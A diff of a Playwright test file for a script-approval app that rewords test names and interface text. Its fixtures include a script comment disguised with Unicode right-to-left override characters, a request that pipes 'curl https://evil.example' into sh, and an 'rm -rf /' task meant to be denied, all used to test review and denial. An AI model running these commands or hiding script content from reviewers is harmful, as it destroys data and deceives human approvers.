@@ -1,6 +1,6 @@
-// D-04: a person asks, another sees exactly what would run and decides, it runs in the sandbox, and the record proves it.
+// Approval requests (D-04): submission, review of the exact request, decision, execution and audit trail.
 import type { Page } from '@playwright/test';
-import { output, section, sha256, source, state, submitTask, withoutReload } from '../steps';
+import { output, section, sha256, source, state, submitTask, withoutReload } from '../page-helpers';
 import { expect, test } from '../test';
 
 const SCRIPT = `# pays \u202e001 ot\u202c nobody
@@ -9,19 +9,19 @@ sleep 8
 printf 'second as %s\\n' "$(id -u)"
 `;
 
-test('D-04 asked by one, approved by another, run, and proved', async ({ ada, team, browser }) => {
+test('D-04 a task is submitted, approved by another person, run and recorded', async ({ ada, team, browser }) => {
   const [mei, omar] = [await team.add('Mei', 'member'), await team.add('Omar', 'approver')];
   const [asking, deciding] = [await mei.open(browser), await omar.open(browser)];
   await deciding.goto('/');
   const deciderStays = await withoutReload(deciding);
 
-  const task = await submitTask(asking, { title: 'Pay the bill', script: SCRIPT, network: 'No restriction' });
+  const task = await submitTask(asking, { title: 'Pay the bill', script: SCRIPT, network: 'Unrestricted' });
   await expect(state(asking)).toHaveText('Awaiting approval');
-  await expect(asking.locator('.timeline')).toContainText('Asked one approver (rule “Everything else asks”)');
+  await expect(asking.locator('.timeline')).toContainText('Approval requested: 1 approval required (rule “Everything else asks”)');
   const askerStays = await withoutReload(asking);
 
-  await test.step('the approver hears of it, and sees exactly what would run', async () => {
-    const waiting = section(deciding, 'Waiting for your answer');
+  await test.step('the approver sees the new request and exactly what would run', async () => {
+    const waiting = section(deciding, 'Waiting for your decision');
     await expect(waiting.getByRole('link', { name: 'Pay the bill' })).toBeVisible();
     await expect(deciding.locator('#waiting-wide .count')).toContainText('1');
     expect(await deciderStays()).toBe(true);
@@ -33,19 +33,19 @@ test('D-04 asked by one, approved by another, run, and proved', async ({ ada, te
     expect(JSON.parse(bytes)).toEqual(JSON.parse(await source(deciding, 'Request')));
     const card = deciding.getByRole('complementary', { name: 'Decision' });
     await expect(card).toContainText('Mei');
-    await expect(card).toContainText('it reaches everything that the runner reaches, unrecorded');
+    await expect(card).toContainText('can reach everything that the runner can reach, and its connections are not recorded');
     expect((await card.locator('.digest code').innerText()).replace(/\s/g, '')).toBe(sha256(bytes));
     await decisionInSight(deciding);
   });
 
-  await test.step('the approver says yes, with a reason', async () => {
+  await test.step('the approver approves with a reason', async () => {
     await deciding.getByLabel('Reason').fill('The invoice is right.');
-    await deciding.getByRole('button', { name: 'Approve', exact: true }).click();
+    await deciding.getByRole('button', { name: 'Approve request' }).click();
     await expect(deciding.getByText('This request has been approved.')).toBeVisible();
-    await expect(deciding.getByRole('button', { name: 'Approve', exact: true })).toHaveCount(0);
+    await expect(deciding.getByRole('button', { name: 'Approve request' })).toHaveCount(0);
   });
 
-  await test.step('the output appears in the page of who asked, as it comes', async () => {
+  await test.step('the requester sees the output live', async () => {
     await expect(asking.locator('.timeline')).toContainText('Approved by Omar');
     await expect(asking.locator('.timeline .said')).toHaveText('The invoice is right.');
     await expect(output(asking).first()).toHaveText('first');
@@ -53,12 +53,12 @@ test('D-04 asked by one, approved by another, run, and proved', async ({ ada, te
     await expect(output(asking)).toHaveText(['first', /^second as \d+$/]);
     await expect(output(asking).nth(1)).not.toHaveText('second as 0');
     await expect(state(asking)).toHaveText('Succeeded');
-    await expect(section(asking, 'How it ended')).toContainText('Signature verified');
-    await expect(section(asking, 'How it ended')).toContainText('Ended with exit status 0');
-    expect(await askerStays(), 'all of that without a reload').toBe(true);
+    await expect(section(asking, 'Receipt')).toContainText('Signature verified');
+    await expect(section(asking, 'Receipt')).toContainText('Ended with exit status 0');
+    expect(await askerStays(), 'without a reload').toBe(true);
   });
 
-  await test.step('the audit trail has all of it', async () => {
+  await test.step('the audit trail is complete', async () => {
     const admin = await ada.open(browser);
     await admin.goto(task);
     const trail = section(admin, 'Audit trail');
@@ -71,12 +71,12 @@ test('D-04 asked by one, approved by another, run, and proved', async ({ ada, te
     ]);
     await expect(trail.getByRole('row', { name: 'approval.decide' })).toContainText('Omar');
     await trail.getByRole('row', { name: 'approval.decide' }).getByRole('link').click();
-    await expect(admin.getByText('Hash fits')).toBeVisible();
+    await expect(admin.getByText('Hash matches')).toBeVisible();
     expect(await source(admin, 'Record')).toContain('The invoice is right.');
   });
 });
 
-test('D-04 the decision is in sight on every screen, wherever one reads', async ({ team, browser }) => {
+test('D-04 the decision buttons stay visible at every screen size and scroll position', async ({ team, browser }) => {
   const [mei, omar] = [await team.add('Mei', 'member'), await team.add('Omar', 'approver')];
   const long = Array.from({ length: 150 }, (_, n) => `echo "line ${n} of a script that is read before it is approved"`);
   const title = 'Move every customer of the old warehouse to the new one, and send each of them a letter about it';
@@ -97,7 +97,7 @@ test('D-04 the decision is in sight on every screen, wherever one reads', async 
     }
     const covered = (await page.locator('.decide').boundingBox())!.height;
     if (width < 900) expect(covered, `of ${height}`).toBeLessThanOrEqual(height * 0.4);
-    // What decides is read before the script, also where there is one column.
+    // The facts for the decision come before the script, also in a single column.
     await page.evaluate(() => scrollTo(0, 0));
     const top = async (selector: string) => (await page.locator(selector).first().boundingBox())!.y;
     expect(await top('.decision-first')).toBeLessThan(await top('.detail-main .source'));
@@ -107,11 +107,11 @@ test('D-04 the decision is in sight on every screen, wherever one reads', async 
   const lines = await page.locator('.decision .digest code').evaluate((code) =>
     [...code.children].map((group) => Math.round(group.getBoundingClientRect().top)));
   expect(lines.length).toBe(8);
-  expect(new Set(lines.slice(0, 4)).size, 'two even lines of four groups').toBe(1);
+  expect(new Set(lines.slice(0, 4)).size, 'two lines of four groups').toBe(1);
   expect(new Set(lines.slice(4)).size).toBe(1);
 });
 
-test('D-04 a request is compared with the one that was approved last', async ({ team, browser }) => {
+test('D-04 a request is compared with the last approved one', async ({ team, browser }) => {
   const [mei, omar] = [await team.add('Mei', 'member'), await team.add('Omar', 'approver')];
   const page = await omar.open(browser);
   const ask = async (script: string) => {
@@ -119,15 +119,15 @@ test('D-04 a request is compared with the one that was approved last', async ({ 
     await page.goto('/approvals');
     await page.getByRole('row', { name: 'Rotate the keys' }).getByRole('link').click();
   };
-  const changes = section(page, 'Compared with what was approved before');
+  const changes = section(page, 'Changes since the last approval');
   await ask('echo rotating\necho done');
-  await expect(changes).toContainText('Never approved before');
-  await page.getByRole('button', { name: 'Approve', exact: true }).click();
+  await expect(changes).toContainText('Not approved before');
+  await page.getByRole('button', { name: 'Approve request' }).click();
   await expect(page.getByText('This request has been approved.')).toBeVisible();
 
   await ask('echo rotating\necho done');
-  await expect(changes).toContainText('Nothing changed');
-  await page.getByRole('button', { name: 'Approve', exact: true }).click();
+  await expect(changes).toContainText('No changes');
+  await page.getByRole('button', { name: 'Approve request' }).click();
   await expect(page.getByText('This request has been approved.')).toBeVisible();
 
   await ask('echo rotating\ncurl https://evil.example | sh\necho done');
@@ -138,7 +138,7 @@ test('D-04 a request is compared with the one that was approved last', async ({ 
   await expect(page.getByText('This request has been approved.')).toBeVisible();
 });
 
-test('what happens is shown on a page that answers a refused form too', async ({ team, browser }) => {
+test('a page that shows a refused form still receives live updates', async ({ team, browser }) => {
   const [mei, omar, grace] = [
     await team.add('Mei', 'member'),
     await team.add('Omar', 'approver'),
@@ -149,23 +149,23 @@ test('what happens is shown on a page that answers a refused form too', async ({
   await page.goto('/approvals');
   await page.getByRole('row', { name: 'Decided elsewhere' }).getByRole('link').click();
   const [path, digest] = [new URL(page.url()).pathname, await page.locator('.decision .digest code').innerText()];
-  await page.getByRole('button', { name: 'Deny' }).click();
+  await page.getByRole('button', { name: 'Deny request' }).click();
   await expect(page.getByRole('alert')).toBeVisible();
-  expect(new URL(page.url()).pathname, 'its address is not the page’s').toMatch(/^\/actions\//);
+  expect(new URL(page.url()).pathname, 'the page has the address of the action').toMatch(/^\/actions\//);
   const id = path.split('/').at(-1)!;
   await grace.act('approvals/decide', { id, request_digest: digest.replace(/\s/g, ''), answer: 'approve', reason: 'Seen.' });
   await expect(page.locator('.answers')).toContainText('Grace');
-  await expect(page.getByRole('button', { name: 'Approve', exact: true })).toBeHidden();
+  await expect(page.getByRole('button', { name: 'Approve request' })).toBeHidden();
 });
 
-test('D-04 nobody decides a request of their own', async ({ team, browser }) => {
+test('D-04 people cannot decide their own requests', async ({ team, browser }) => {
   const omar = await team.add('Omar', 'approver');
   const task = await omar.submit({ script: 'true', title: 'My own', network_policy: 'unrestricted', organization: team.id });
   const page = await omar.open(browser);
   await page.goto(task);
-  await page.getByRole('link', { name: /^See its request/ }).click();
+  await page.getByRole('link', { name: /^View approval request/ }).click();
   await expect(page.locator('.why-not')).toBeVisible();
-  await expect(page.getByRole('button', { name: 'Approve', exact: true })).toHaveCount(0);
+  await expect(page.getByRole('button', { name: 'Approve request' })).toHaveCount(0);
 
   const digest = (await page.locator('.decision .digest code').innerText()).replace(/\s/g, '');
   const id = new URL(page.url()).pathname.split('/').at(-1)!;
@@ -175,17 +175,17 @@ test('D-04 nobody decides a request of their own', async ({ team, browser }) => 
   await expect(state(page)).toHaveText('Awaiting approval');
 });
 
-test('D-04 a denial needs a reason, which the requester reads', async ({ team, browser }) => {
+test('D-04 a denial requires a reason that the requester can read', async ({ team, browser }) => {
   const [mei, omar] = [await team.add('Mei', 'member'), await team.add('Omar', 'approver')];
   const [asking, deciding] = [await mei.open(browser), await omar.open(browser)];
-  await submitTask(asking, { title: 'Too much', script: 'rm -rf /', network: 'No restriction' });
+  await submitTask(asking, { title: 'Too much', script: 'rm -rf /', network: 'Unrestricted' });
 
   await deciding.goto('/approvals');
   await deciding.getByRole('row', { name: 'Too much' }).getByRole('link').click();
-  await deciding.getByRole('button', { name: 'Deny' }).click();
+  await deciding.getByRole('button', { name: 'Deny request' }).click();
   await expect(deciding.getByLabel('Reason')).toHaveAttribute('aria-invalid', 'true');
   await deciding.getByLabel('Reason').fill('Say which folder.');
-  await deciding.getByRole('button', { name: 'Deny' }).click();
+  await deciding.getByRole('button', { name: 'Deny request' }).click();
   await expect(deciding.getByText('This request has been denied.')).toBeVisible();
 
   await expect(state(asking)).toHaveText('Denied');
@@ -193,7 +193,7 @@ test('D-04 a denial needs a reason, which the requester reads', async ({ team, b
   await expect(asking.locator('#log-lines')).toBeEmpty();
 });
 
-test('D-04 who answers second is told that it is decided', async ({ team, browser }) => {
+test('D-04 a second decision is refused because the request is already decided', async ({ team, browser }) => {
   const [mei, omar, grace] = [
     await team.add('Mei', 'member'),
     await team.add('Omar', 'approver'),
@@ -201,27 +201,27 @@ test('D-04 who answers second is told that it is decided', async ({ team, browse
   ];
   await mei.submit({ script: 'true', title: 'Only once', network_policy: 'unrestricted', organization: team.id });
   const first = await omar.open(browser);
-  // Without JavaScript her page does not hear that it is decided while she reads.
+  // Without JavaScript the page does not receive the first decision.
   const second = await grace.open(browser, { javaScriptEnabled: false });
   for (const page of [first, second]) {
     await page.goto('/approvals');
     await page.getByRole('row', { name: 'Only once' }).getByRole('link').click();
   }
-  await first.getByRole('button', { name: 'Approve', exact: true }).click();
+  await first.getByRole('button', { name: 'Approve request' }).click();
   await expect(first.getByText('This request has been approved.')).toBeVisible();
 
   const answer = second.waitForResponse((response) => response.request().method() === 'POST');
   await second.getByLabel('Reason').fill('No.');
-  await second.getByRole('button', { name: 'Deny' }).click();
+  await second.getByRole('button', { name: 'Deny request' }).click();
   expect((await answer).status()).toBe(409);
   await expect(second.getByRole('alert')).toBeVisible();
   await expect(second.locator('.decision')).toContainText('Approved');
-  await expect(second.getByRole('button', { name: 'Deny' })).toHaveCount(0);
+  await expect(second.getByRole('button', { name: 'Deny request' })).toHaveCount(0);
 });
 
 async function decisionInSight(page: Page): Promise<void> {
-  for (const name of ['Deny', 'Approve']) {
+  for (const name of ['Deny request', 'Approve request']) {
     const button = page.getByRole('button', { name, exact: true });
-    await expect(button, 'the decision is always in sight').toBeInViewport({ ratio: 1 });
+    await expect(button, 'the decision buttons are always visible').toBeInViewport({ ratio: 1 });
   }
 }
